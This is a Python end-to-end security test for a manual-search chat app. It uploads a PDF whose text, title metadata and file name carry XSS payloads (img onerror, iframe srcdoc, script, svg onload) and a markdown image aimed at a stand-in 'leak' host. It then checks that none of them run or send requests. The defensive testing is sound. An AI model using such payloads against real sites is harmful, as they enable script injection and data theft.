"""A hostile manual (issue 10 §1): markup in its text, its title metadata and its file name.

The shop uploads a generated PDF whose text quotes `<img onerror>`, `<iframe srcdoc>`, `<script>`
and a markdown image pointing at another host; its title metadata and its file name carry
markup too. The owner asks about it, opens the sources and the page preview, reopens the
conversation and looks at the library. Nothing injected runs (every payload would set
`window.tdPwned`), no request leaves the app's origin, the Content-Security-Policy reports no
violation anywhere (Reflex's frontend works under it), and the markup is shown as text.
"""

from __future__ import annotations

import re
import uuid
from collections.abc import Callable
from urllib.parse import urlsplit

import pymupdf
import pytest
from playwright.sync_api import Page, expect

from tests.e2e.accounts import sign_up_owner
from tests.e2e.test_chat_library import READY_TIMEOUT_MS, _nav

pytestmark = pytest.mark.e2e

EXFIL_HOST = "127.0.0.1:9"
IMG = "<img src=x onerror=\"window.tdPwned='text'\">"
IFRAME = "<iframe srcdoc=\"<script>parent.tdPwned='iframe'</script>\"></iframe>"
SCRIPT = "<script>window.tdPwned='script'</script>"
MD_IMAGE = f"![torque chart](http://{EXFIL_HOST}/leak.png?q=zeta)"
TITLE = "Zeta9 brakes <img src=x onerror=\"window.tdPwned='title'\"> service manual"
FILENAME = "zeta9 <svg onload=window.tdPwned=1> brakes.pdf"
SHOWN_TITLE = "Zeta9 brakes <img src=x onerror=\"window.tdPwned='title'\"> service manual"
QUESTION = "What torque do the Zeta-9 hoist caliper bracket bolts take?"

WATCH = """() => {
  window.__tdViolations = window.__tdViolations || [];
  if (!window.__tdWatching) {
    window.__tdWatching = true;
    document.addEventListener('securitypolicyviolation', (e) =>
      window.__tdViolations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample || ''}`));
  }
}"""


def hostile_pdf() -> bytes:
    """A one-page service manual with markup in its text and its title metadata."""
    doc = pymupdf.open()
    page = doc.new_page(width=612, height=792)
    lines = [
        "Zeta-9 hoist: front brake service",
        "",
        f"Tighten the Zeta-9 caliper bracket bolts to 95 Nm {IMG} in a cross pattern.",
        f"Warning {IFRAME} replace the brake pads of the Zeta-9 hoist in pairs.",
        f"Zeta-9 slide pins take 30 Nm {SCRIPT} and new grease.",
        f"See {MD_IMAGE} for the Zeta-9 torque sequence.",
    ]
    y = 72.0
    for line in lines:
        page.insert_textbox(pymupdf.Rect(72, y, 540, y + 60), line, fontsize=11)
        y += 60
    doc.set_metadata({"title": TITLE, "author": "<b>Hostile</b> GmbH"})
    data = doc.tobytes()
    doc.close()
    return data


def _never_ran(page: Page) -> None:
    assert page.evaluate("() => window.tdPwned") is None, "injected markup ran"
    assert page.evaluate("() => window.__tdViolations") == [], "the CSP blocked something"
    assert page.locator("iframe").count() == 0


def test_markup_in_a_manual_never_runs_and_shows_as_text(
    new_page: Callable[[str], Page], app_url: str
) -> None:
    page = new_page("1024x768")
    origin = urlsplit(app_url).netloc
    foreign: list[str] = []
    page.on(
        "request",
        lambda r: (
            foreign.append(r.url)
            if urlsplit(r.url).netloc not in (origin, "")
            and not r.url.startswith(("data:", "blob:"))
            else None
        ),
    )
    page.add_init_script(f"({WATCH})()")

    sign_up_owner(
        page,
        app_url,
        f"Zeta Hoists {uuid.uuid4().hex[:6]}",
        f"owner-{uuid.uuid4().hex[:8]}@zeta.example",
    )

    # Upload: the file name with markup is listed as text while it goes out.
    _nav(page, "Library")
    page.locator("input[type=file]").set_input_files(
        files=[{"name": FILENAME, "mimeType": "application/pdf", "buffer": hostile_pdf()}]
    )
    expect(page.get_by_text(FILENAME, exact=True)).to_be_visible()
    page.get_by_role("button", name="Upload", exact=True).click()
    row = page.locator(".td-doc-row").filter(has_text="brakes")
    expect(row.get_by_text("Ready", exact=True)).to_be_visible(timeout=READY_TIMEOUT_MS)
    # The title from the PDF's metadata (it names the same manual as the file) is text too.
    expect(row).to_contain_text(SHOWN_TITLE)
    assert row.locator("svg[onload], img").count() == 0
    _never_ran(page)

    # Ask: the answer quotes the hostile sentence; the markup in it is text, not elements.
    _nav(page, "Chat")
    box = page.get_by_placeholder("Ask about your manuals")
    expect(page.get_by_role("button", name="Send")).to_be_enabled()
    box.fill(QUESTION)
    box.press("Enter")
    expect(page.get_by_role("button", name="Helpful", exact=True)).to_be_visible(timeout=60_000)
    answer = page.locator(".td-answer").last
    expect(answer.locator(".td-answer-text")).to_contain_text("95 Nm")
    text = answer.locator(".td-answer-text")
    assert text.locator("img, iframe, script, a, svg").count() == 0
    shown = text.inner_text()
    if "onerror" in shown:  # the quoted sentence kept its markup: it must read as typed
        assert "<img src=x onerror=" in shown
    assert "http://127.0.0.1:9" not in text.inner_html()

    # Sources: file name, heading and snippet are text.
    source = answer.locator(".td-source").first
    expect(source).to_contain_text("<svg onload=window.tdPwned=1>")
    snippets = " ".join(answer.locator(".td-source-snippet").all_inner_texts())
    assert re.search(r"<img src=x onerror=|<iframe srcdoc=|<script>", snippets), snippets
    _never_ran(page)

    # The page preview of the cited page (title carries the file name).
    source.click()
    dialog = page.get_by_role("dialog")
    expect(dialog.locator("img.td-page-image")).to_be_visible()
    page.wait_for_function(
        "() => { const i = document.querySelector('img.td-page-image');"
        " return i && i.complete && i.naturalWidth > 300; }"
    )
    expect(dialog).to_contain_text("<svg onload=window.tdPwned=1>")
    dialog.get_by_role("button", name="Close").click()
    expect(dialog).to_have_count(0)

    # The manuals to search, listed by title.
    page.get_by_role("button", name="Choose which manuals to search").click()
    expect(page.get_by_role("dialog")).to_contain_text(SHOWN_TITLE)
    page.get_by_role("button", name="Done").click()
    _never_ran(page)

    # The conversation title (the question) and a reopened conversation render the same way.
    page.reload()
    expect(page.get_by_role("button", name="Send")).to_be_enabled()
    page.get_by_role("button", name="History").click()
    page.locator(".td-conv-open").first.click()
    reopened = page.locator(".td-answer").last
    expect(reopened.locator(".td-answer-text")).to_contain_text("95 Nm")
    assert reopened.locator(".td-answer-text").locator("img, iframe, script, a").count() == 0
    _never_ran(page)

    # The library again after a reload (title metadata and file name from the database).
    _nav(page, "Library")
    expect(row).to_contain_text(SHOWN_TITLE)
    _never_ran(page)
    assert foreign == [], f"requests left the app: {foreign}"
